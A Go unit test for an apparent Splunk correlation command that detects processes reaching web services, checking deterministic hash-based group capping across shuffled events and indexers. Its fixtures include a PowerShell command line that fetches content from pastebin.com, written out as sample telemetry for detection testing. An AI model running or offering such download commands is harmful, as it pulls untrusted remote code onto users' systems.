package correlate_test

import (
	"context"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/t1102app/t1102/src/splunkd"
)

// TestMaxGroupsDeterministic: past max_groups the kept processes are the
// max_groups smallest by FNV-64a of (host, NUL, ProcessGuid without
// braces), lower case (a sample spread over the hosts), whatever the
// order events arrive in and however they are spread over indexers; the
// cut is reported.
func TestMaxGroupsDeterministic(t *testing.T) {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	const processes, maxGroups = 60, 17
	var rows [][]string
	var keys []string
	var ranks []uint64
	for p := 0; p < processes; p++ {
		host := fmt.Sprintf("WKS-%02d", p%7)
		guid := fmt.Sprintf("{%08X-0000-0000-0000-%012d}", (p*7919)%1000, p)
		keys = append(keys, strings.ToLower(host)+" "+strings.ToLower(guid))
		ranks = append(ranks, fnvRank(strings.ToLower(host), strings.ToLower(strings.Trim(guid, "{}"))))
		rows = append(rows, []string{"1", host, guid, fmt.Sprint(1700000000 + p), ps, fmt.Sprintf("powershell -c iwr https://pastebin.com/raw/p%d", p), `C:\Windows\explorer.exe`, "", "", "", ""})
		for k := 0; k < 3; k++ {
			rows = append(rows, []string{"3", host, guid, fmt.Sprint(1700000000 + p + 60*k), ps, "", "", "pastebin.com", "104.20.67.143", "", ""})
		}
	}
	idx := make([]int, processes)
	for i := range idx {
		idx[i] = i
	}
	sort.Slice(idx, func(a, b int) bool { return ranks[idx[a]] < ranks[idx[b]] })
	var want []string
	for _, i := range idx[:maxGroups] {
		want = append(want, keys[i])
	}
	sort.Strings(want)
	base := table(eventFields, rows...)
	args := []string{"all=true", fmt.Sprintf("max_groups=%d", maxGroups)}
	tests := []struct {
		name, reason string
		seed         uint64
		indexers     int
	}{
		{"one indexer, in order", "the reduce alone decides", 0, 1},
		{"one indexer, shuffled", "the map's own cut does not depend on order", 1, 1},
		{"three indexers, shuffled", "maps keep their smallest; the reduce the smallest of the union", 2, 3},
		{"five indexers, other order", "another spread and order, the same rows", 3, 5},
		{"seven indexers, small chunks", "chunk boundaries do not matter", 4, 7},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			in := &splunkd.Table{Fields: base.Fields, Rows: append([][]splunkd.Value(nil), base.Rows...)}
			rng := rand.New(rand.NewPCG(tt.seed, 7))
			if tt.seed > 0 {
				rng.Shuffle(len(in.Rows), func(i, j int) { in.Rows[i], in.Rows[j] = in.Rows[j], in.Rows[i] })
			}
			owner := make([]int, len(in.Rows))
			for i := range owner {
				owner[i] = rng.IntN(tt.indexers)
			}
			res, err := splunkd.Run(context.Background(), splunkd.Search{
				Argv: argv, Args: args, Input: in, Collect: true, Indexers: tt.indexers,
				ChunkRows: 5 + int(tt.seed)*13, Spread: func(row, _ int) int { return owner[row] },
			})
			require.NoError(t, err, tt.reason)
			var got []string
			for i := range res.Table.Rows {
				got = append(got, strings.ToLower(first(res.Table.Get(i, "host"))+" "+first(res.Table.Get(i, "ProcessGuid"))))
				require.Equal(t, "3", first(res.Table.Get(i, "connection_count")), "a kept process has all its events: %s", got[i])
			}
			sort.Strings(got)
			require.Equal(t, want, got, tt.reason)
			var warned bool
			for _, m := range res.Messages {
				warned = warned || strings.Contains(m.Text, "smallest by a hash of host and ProcessGuid")
			}
			require.True(t, warned, "the cut is reported, saying which are kept")
		})
	}
}

// fnvRank is the documented order of processes past max_groups.
func fnvRank(host, guid string) uint64 {
	h := fnv.New64a()
	h.Write([]byte(host + "\x00" + guid))
	return h.Sum64()
}
